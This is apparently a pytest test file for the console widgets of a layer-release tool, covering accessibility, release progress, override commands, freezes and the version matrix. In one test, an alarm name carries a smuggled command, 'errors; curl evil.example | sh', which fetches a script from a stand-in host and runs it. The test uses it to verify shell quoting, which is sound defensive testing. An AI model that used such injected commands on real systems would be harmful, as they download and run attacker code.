"""What holds for every widget, and what those say that show many releases and layers at once."""

from datetime import timedelta

import pytest

from layerlift.console import answering
from layerlift.domain.gates.freezes import Freeze
from layerlift.domain.release import ReleaseState, StageState
from layerlift.domain.targets import Target
from layerlift.releasing.records import write_release
from tests.fakes.scenery import NOW, REGIONS, Scenery
from tests.fakes.world import ACCOUNT, World
from tests.unit.console.reading import ENDPOINT, counts, show
from tests.unit.console.test_escaping import WIDGETS

# ── what holds for all ──────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("widget", WIDGETS)
@pytest.mark.parametrize("theme", ["light", "dark"])
def test_the_root_says_which_widget_it_is_how_it_fares_and_in_which_theme(
    scene: Scenery, widget: str, theme: str
) -> None:
    page = show(scene, WIDGETS[widget], theme=theme)
    name = str(WIDGETS[widget]["widget"]) if widget != "problem" else "problem"
    assert page.elements[0][0] == "div"
    assert page.root == {
        "class": "ll",
        "data-widget": name,
        "data-state": "error" if widget == "problem" else "ok",
        "data-theme": theme,
    }


@pytest.mark.parametrize("widget", WIDGETS)
def test_every_action_follows_a_button_and_calls_this_function(scene: Scenery, widget: str) -> None:
    page = show(scene, WIDGETS[widget])
    tags = [tag for tag, _ in page.elements]
    for at, tag in enumerate(tags):
        if tag == "cwdb-action":
            assert "button" in tags[at - 3 : at]
    for action in page.actions:
        assert action.attributes["action"] == "call"
        assert action.attributes["endpoint"] == ENDPOINT
        assert action.attributes["display"] in ("widget", "popup")
        assert action.button


@pytest.mark.parametrize("widget", WIDGETS)
def test_every_action_leads_to_a_widget(scene: Scenery, widget: str) -> None:
    page = show(scene, WIDGETS[widget])
    asked = {str(action.params): action.params for action in page.actions}
    for params in list(asked.values())[:12]:
        if params.get("action") != "decide":
            assert show(scene, params).state in ("ok", "empty"), params


@pytest.mark.parametrize("widget", WIDGETS)
def test_tables_have_captions_and_scopes_and_fields_have_labels(
    scene: Scenery, widget: str
) -> None:
    elements = show(scene, WIDGETS[widget]).elements
    tags = [tag for tag, _ in elements]
    assert tags.count("table") == tags.count("caption")
    assert all("scope" in attrs for tag, attrs in elements if tag == "th")
    for at, (tag, _) in enumerate(elements):
        if tag in ("input", "select", "textarea"):
            assert tags[at - 1] == "label"


@pytest.mark.parametrize("widget", WIDGETS)
def test_no_colour_goes_without_a_sign_or_a_word(scene: Scenery, widget: str) -> None:
    page = show(scene, WIDGETS[widget])
    pills = counts(page, "span", "ll-pill")
    assert pills <= counts(page, "span", "ll-sign")


def test_a_widget_on_the_own_machine_hands_that_on_to_all_its_actions(scene: Scenery) -> None:
    for widget in ("releases", "approvals", "matrix", "layer"):
        page = show(scene, {"widget": widget, "host": "local"})
        assert page.actions
        assert {action.params["host"] for action in page.actions} == {"local"}
        assert all("host" not in action.params for action in show(scene, WIDGETS[widget]).actions)


@pytest.mark.parametrize("widget", ["releases", "approvals", "matrix", "layer"])
def test_an_empty_registry_says_what_will_be_here(widget: str) -> None:
    page = show(Scenery(), {"widget": widget})
    assert page.state == "empty"
    assert "yet" in page.text or "Nothing waits" in page.text


def test_without_a_policy_the_matrix_says_how_to_get_one() -> None:
    made = Scenery()
    made.world = World(None)
    assert "layerlift policy apply" in show(made, {"widget": "matrix"}).text


@pytest.mark.parametrize("widget", ["release", "report"])
def test_a_release_that_is_not_there_is_said(widget: str) -> None:
    page = show(Scenery(), {"widget": widget, "layer": "http", "version": "1.0.0"})
    assert page.state == "error"
    assert "There is no release http 1.0.0." in page.text


def test_an_answer_that_lambda_would_not_carry_is_not_tried(
    scene: Scenery, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(answering, "MAX_RESPONSE_BYTES", 10_000)
    page = show(scene, WIDGETS["matrix"])
    assert page.state == "error"
    assert "Choose a layer or a stage with fewer entries." in page.text


# ── releases ────────────────────────────────────────────────────────────────────────────────────


def test_releases_on_their_way_are_drawn_with_what_they_wait_at(scene: Scenery) -> None:
    text = show(scene, WIDGETS["releases"]).text
    assert "Bakes under its alarms , over in 18 min" in text
    assert "Waits for approval , expires in 2 d 23 h" in text
    assert "It has 1 of the 2 approvals it needs." in text
    assert "Held by alarms , fails in 23 h 54 min" in text
    assert "layerlift override crypto-native 3.0.0-rc.1 staging --alarm errors --reason WHY" in text
    assert "2 published, 16 pending" in text


def test_a_release_that_waits_leads_to_its_request_and_says_what_its_bar_means(
    scene: Scenery,
) -> None:
    page = show(scene, WIDGETS["releases"])
    assert "so far, with waiting" in page.text
    assert "0 % of the time is over" in page.text
    found = page.action("See what changes in http-client 1.4.0, and decide")
    assert found.attributes["display"] == "popup"
    asked = show(scene, found.params)
    assert "http-client 1.4.0 for prod" in asked.text
    assert "Approve http-client 1.4.0 for prod" in [each.button for each in asked.actions]
    other = show(scene, {"widget": "approvals", "layer": "numbers"})
    assert "Nothing waits for approval." in other.text


def test_an_alarm_is_quoted_in_the_command_that_overrides_it() -> None:
    scene = Scenery()
    held = scene.release("http-client", "1.0.0")
    scene.stage(held, "staging", StageState.HELD)
    name = "errors; curl evil.example | sh"
    scene.watch(held, "staging", 0, held_for="It fires.", held_by=(name,), held_since=NOW)
    assert f"staging --alarm '{name}'" in show(scene, WIDGETS["releases"]).text


@pytest.mark.parametrize(
    ("alarms", "options", "end"),
    [((), "--freeze", "goes on"), (("errors",), "--alarm errors --freeze", "over")],
)
def test_a_freeze_is_named_with_the_alarms_that_hold_the_stage_on_when_it_is_over(
    alarms: tuple[str, ...], options: str, end: str
) -> None:
    scene = Scenery()
    frozen = scene.release("http-client", "1.0.0")
    begins, ends = (NOW.replace(tzinfo=None) + timedelta(hours=hours) for hours in (-1, 2))
    ice = Freeze(since=begins, until=ends, reason="Holidays.")
    plans = tuple(plan.model_copy(update={"freezes": (ice,)}) for plan in frozen.stages)
    scene.write(write_release(frozen.model_copy(update={"stages": plans}), 0))
    scene.stage(frozen, "staging", StageState.HELD)
    scene.watch(frozen, "staging", 0, held_for="It is frozen.", held_by=alarms, is_frozen=True)
    text = show(scene, WIDGETS["releases"]).text
    assert f"layerlift override http-client 1.0.0 staging {options} --reason WHY" in text
    assert f"Frozen , {end} in 2 h" in text


def test_nothing_is_pending_where_a_release_that_has_ended_never_came() -> None:
    scene = Scenery()
    failed = scene.release("http-client", "1.0.0", ReleaseState.FAILED)
    scene.stage(failed, "staging", StageState.FAILED)
    assert "all 2 untouched" in show(scene, WIDGETS["releases"]).text
    detail = show(scene, {"widget": "release", "layer": "http-client", "version": "1.0.0"})
    assert "untouched" in detail.text.partition("Its targets")[2]
    assert "pending" not in detail.text


def test_what_is_on_its_way_comes_before_what_happened_last(scene: Scenery) -> None:
    text = show(scene, WIDGETS["releases"]).text
    assert text.index("crypto-native") < text.index("What happened last") < text.index("tz-data")


def test_a_failure_and_a_debt_are_told_with_where_and_why(scene: Scenery) -> None:
    text = show(scene, WIDGETS["releases"]).text
    assert "prod: The canary failed in us-west-2: cannot import zoneinfo_data" in text
    assert "1 failed, 2 put back" in text
    assert "1 stuck, 1 owed, 16 live" in text


def test_a_bake_has_a_bar_that_says_how_far_it_is(scene: Scenery) -> None:
    page = show(scene, WIDGETS["releases"])
    labels = [attrs.get("aria-label", "") for tag, attrs in page.elements if tag == "svg"]
    assert "Bakes under its alarms: 40 % of the time is over" in labels


def test_filters_choose_and_can_be_taken_away(scene: Scenery) -> None:
    page = show(scene, {"widget": "releases"}, {"releases-layer": "tz-data"})
    assert "tz-data" in page.text
    assert "xml-parser 2.1.0" not in page.text
    assert show(scene, page.action("Show all").params).text.count("crypto-native") > 0
    failed = show(scene, {"widget": "releases"}, {"releases-state": "failed"})
    assert ("tz-data" in failed.text, "On the way" in failed.text) == (True, False)


def test_a_filter_that_matches_nothing_says_so(scene: Scenery) -> None:
    page = show(scene, {"widget": "releases", "layer": "other"})
    assert page.state == "empty"
    assert "No release matches." in page.text


# ── matrix ──────────────────────────────────────────────────────────────────────────────────────


def test_the_matrix_says_in_words_what_does_not_agree(scene: Scenery) -> None:
    page = show(scene, WIDGETS["matrix"])
    assert "18 of 30" in page.text
    assert "2.1.0 ! ahead" in page.text
    assert "✕ stuck" in page.text
    assert "owed 0.9.1" in page.text
    assert "14 cells need a look" in page.text


def test_bytes_that_differ_under_one_version_are_told() -> None:
    made = Scenery()
    release = made.release("http", "1.0.0")
    place = [Target(account=ACCOUNT, region=region) for region in REGIONS[:2]]
    made.point(release, "prod", place[0], "arn:1")
    other = release.model_copy(update={"digest": "f" * 64})
    made.point(other, "prod", place[1], "arn:2")
    assert "bytes differ" in show(made, {"widget": "matrix"}).text


def test_where_the_policy_no_longer_names_a_region_its_cell_says_so_and_needs_no_look() -> None:
    made = Scenery()
    old, new = made.release("http", "1.0.0"), made.release("http", "2.0.0")
    made.point(new, "dev", Target(account=ACCOUNT, region="eu-central-1"), "arn:2")
    for region in ("us-east-1", "us-east-2"):
        made.point(old, "dev", Target(account=ACCOUNT, region=region), "arn:1")
    text = show(made, {"widget": "matrix", "stage": "dev"}).text
    assert "2.0.0 ✓ 1 target" in text
    assert text.count("1.0.0 · no longer in the policy") == 2
    assert "ahead" not in text
    assert "everything agrees" in text


def test_a_cell_opens_the_detail_of_its_target(scene: Scenery) -> None:
    cells = [a for a in show(scene, WIDGETS["matrix"]).actions if a.params["widget"] == "target"]
    assert len(cells) == 90
    assert {cell.attributes["display"] for cell in cells} == {"popup"}
    assert show(scene, cells[0].params).state == "ok"


def test_layers_beyond_a_page_are_on_the_next() -> None:
    made = Scenery()
    for number in range(53):
        release = made.release(f"layer-{number:02d}", "1.0.0")
        made.point(release, "prod", Target(account=ACCOUNT, region="us-east-1"), "arn")
    page = show(made, {"widget": "matrix"})
    following = show(made, page.action("Layers after layer-49").params)
    assert ("layer-50" in page.text, "layer-52" in following.text) == (False, True)
    assert show(made, following.action("First page").params).text == page.text
